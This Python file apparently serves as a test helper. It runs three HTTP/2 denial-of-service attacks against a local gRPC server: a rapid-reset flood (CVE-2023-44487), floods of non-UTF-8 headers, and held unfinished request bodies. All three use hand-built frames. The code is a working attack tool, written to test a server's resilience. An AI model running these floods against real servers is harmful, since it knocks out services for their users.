"""Unauthenticated HTTP/2 attacks, as a process of their own so that they do not share the test's
interpreter: `python -m devtools.h2_attacks MODE PORT [ARGS]`.

- `rapid-reset PORT SECONDS [PATH]`: one connection sending HEADERS then RST_STREAM in a loop
  (CVE-2023-44487), as fast as it can; prints the streams it opened.
- `bad-headers PORT SECONDS`: complete calls whose header value is not UTF-8, as fast as the
  server answers them; prints the calls sent.
- `unfinished PORT CONNECTIONS STREAMS`: on each connection, STREAMS calls whose body announces
  90,000 bytes and sends 89,000 without ending, within the flow-control windows the server
  grants; prints "held N" (the streams whose bytes all went out) and keeps the connections
  open, answering pings, until standard input closes.

Frames are written by hand (struct) rather than with the h2 package, which is too slow to
reach the rates that matter here; the header block is HPACK "literal without indexing" (no
dynamic table), so one encoded block serves every stream.
"""

import selectors
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ANNOUNCED, SENT = 90_000, 89_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    # HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2).
    return b"\x00" + _length(name) + name + _length(value) + value


def _length(text: bytes) -> bytes:
    size = len(text)
    if size < 127:
        return bytes([size])
    out, size = bytearray([127]), size - 127
    while size >= 128:
        out.append((size % 128) + 128)
        size //= 128
    out.append(size)
    return bytes(out)


def request_headers(
    port: int, path: str, extra: tuple[tuple[bytes, bytes], ...] = ()
) -> list[tuple[bytes, bytes]]:
    """The request headers of a gRPC call to `path` on 127.0.0.1:`port`, with no token (and
    `extra` headers)."""
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]


def header_block(port: int, path: str, extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    """request_headers(), HPACK-encoded once for every stream."""
    return b"".join(_literal(name, value) for name, value in request_headers(port, path, extra))


def _connect(port: int) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    # A large connection window, so that only the per-stream windows the server grants count.
    sock.sendall(
        PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
    )
    return sock


class _Reader:
    """Reads a connection's frames: answers SETTINGS and PING, tracks the windows granted."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buffer = b""
        self.initial_window = 65_535
        self.stream_credit: dict[int, int] = {}
        self.connection_credit = 65_535
        self.outgoing = b""
        self.max_streams: int | None = None
        self.settings_seen = False
        self.ended = 0  # streams the server ended (trailers or RST_STREAM)
        self.refused: set[int] = set()
        self.closed = False

    def pump(self) -> None:
        """Read what has arrived (the socket must be readable)."""
        try:
            chunk = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            chunk = b""
        if not chunk:
            self.closed = True
            return
        self.buffer += chunk
        out = b""
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags, stream = (
                self.buffer[3],
                self.buffer[4],
                int.from_bytes(self.buffer[5:9], "big"),
            )
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                self.settings_seen = True
                for at in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[at : at + 6])
                    if key == 3:
                        self.max_streams = value
                    elif key == 4:
                        self.initial_window = value
                out += frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                out += frame(PING, ACK, 0, payload)
            elif kind == WINDOW_UPDATE:
                grant = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                if stream:
                    self.stream_credit[stream] = self.stream_credit.get(stream, 0) + grant
                else:
                    self.connection_credit += grant
            elif kind == RST_STREAM:
                self.refused.add(stream)
                self.ended += 1
            elif kind == HEADERS and flags & END_STREAM:
                self.ended += 1
            elif kind == GOAWAY:
                self.closed = True
        self.outgoing += out
        self.flush()

    def flush(self) -> None:
        """Write what is queued, as far as the socket takes it."""
        try:
            while self.outgoing:
                written = self.sock.send(self.outgoing)
                self.outgoing = self.outgoing[written:]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.closed = True


def advertised_max_streams(port: int) -> int | None:
    """The SETTINGS_MAX_CONCURRENT_STREAMS a new connection to `port` is told (None: no cap)."""
    reader = _Reader(_connect(port))
    reader.sock.settimeout(5)
    with reader.sock:
        while not reader.closed and not reader.settings_seen:
            reader.pump()
    return reader.max_streams


def rapid_reset(port: int, seconds: float, path: str) -> int:
    """HEADERS then RST_STREAM on new streams, as fast as possible; returns streams opened."""
    sock = _connect(port)
    reader = _Reader(sock)
    block = header_block(port, path)
    rst = struct.pack(">I", CANCEL)
    stream, sent = 1, 0
    deadline = time.monotonic() + seconds
    sock.setblocking(False)
    pending = b""
    while time.monotonic() < deadline and stream < (1 << 31) - 400 and not reader.closed:
        if not pending:
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream, rst))
                stream += 2
            pending = b"".join(batch)
            sent += 100
        try:
            written = sock.send(pending)
            pending = pending[written:]
        except BlockingIOError:
            selectors.DefaultSelector().select(0.001)
        except OSError:
            break
        reader.pump()
    sock.close()
    return sent


def bad_headers(port: int, seconds: float) -> int:
    """Complete Get calls whose `x-foo` header value is not UTF-8, as fast as the server takes
    them (within its stream cap); returns the calls sent."""
    sock = _connect(port)
    reader = _Reader(sock)
    block = header_block(port, "/profile.v1.ProfileService/Get", ((b"x-foo", b"v\xff"),))
    empty = struct.pack(">BI", 0, 0)
    stream, sent = 1, 0
    sock.setblocking(False)
    selector = selectors.DefaultSelector()
    selector.register(sock, selectors.EVENT_READ)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not reader.closed and stream < (1 << 31) - 400:
        cap = reader.max_streams or 100
        while sent - reader.ended < cap and len(reader.outgoing) < 1 << 16:
            reader.outgoing += frame(HEADERS, END_HEADERS, stream, block)
            reader.outgoing += frame(DATA, END_STREAM, stream, empty)
            stream, sent = stream + 2, sent + 1
        reader.flush()
        if selector.select(0.01):
            reader.pump()
    sock.close()
    return sent


def unfinished(port: int, connections: int, streams: int, stop: threading.Event) -> int:
    """Open `streams` unfinished bodies on each of `connections`; returns how many streams had
    all their bytes sent, then holds them (answering pings) until `stop`."""
    readers = [_Reader(_connect(port)) for _ in range(connections)]
    block = header_block(port, "/profile.v1.ProfileService/Upsert")
    prefix = struct.pack(">BI", 0, ANNOUNCED)
    body = prefix + b"\x00" * (SENT - len(prefix))
    todo: list[dict[int, bytes]] = []
    for reader in readers:
        left = {}
        for index in range(streams):
            stream = 1 + 2 * index
            reader.outgoing += frame(HEADERS, END_HEADERS, stream, block)
            left[stream] = body
        todo.append(left)
        reader.sock.setblocking(False)
    selector = selectors.DefaultSelector()
    for reader in readers:
        selector.register(reader.sock, selectors.EVENT_READ, reader)
    quiet_since = time.monotonic()
    while time.monotonic() - quiet_since < 3 and not stop.is_set():
        progressed = False
        for reader, left in zip(readers, todo, strict=True):
            if reader.closed:
                left.clear()
                continue
            for stream in list(left):
                if stream in reader.refused:
                    del left[stream]
                    continue
                if len(reader.outgoing) > 1 << 20:
                    break  # the socket is full: wait for the server to read
                window = reader.initial_window + reader.stream_credit.get(stream, 0)
                sent_already = len(body) - len(left[stream])
                room = min(window - sent_already, reader.connection_credit, 16_384)
                if room <= 0:
                    continue
                piece = left[stream][:room]
                reader.outgoing += frame(DATA, 0, stream, piece)
                reader.connection_credit -= len(piece)
                left[stream] = left[stream][len(piece) :]
                progressed = True
                if not left[stream]:
                    del left[stream]
        for reader in readers:
            reader.flush()
        for key, _ in selector.select(0.05):
            key.data.pump()
        if progressed:
            quiet_since = time.monotonic()
    held = sum(
        streams - len(reader.refused) - len(left)
        for reader, left in zip(readers, todo, strict=True)
        if not reader.closed
    )
    print(f"held {held}", flush=True)
    while not stop.is_set():
        for key, _ in selector.select(0.2):
            key.data.pump()
    return held


def main(argv: list[str]) -> None:
    mode, port = argv[0], int(argv[1])
    if mode == "rapid-reset":
        path = argv[3] if len(argv) > 3 else "/profile.v1.ProfileService/Get"
        print(rapid_reset(port, float(argv[2]), path), flush=True)
    elif mode == "bad-headers":
        print(bad_headers(port, float(argv[2])), flush=True)
    elif mode == "unfinished":
        stop = threading.Event()

        def until_stdin_closes() -> None:
            sys.stdin.read()
            stop.set()

        threading.Thread(target=until_stdin_closes, daemon=True).start()
        unfinished(port, int(argv[2]), int(argv[3]), stop)
    else:
        raise SystemExit(f"unknown mode {mode!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
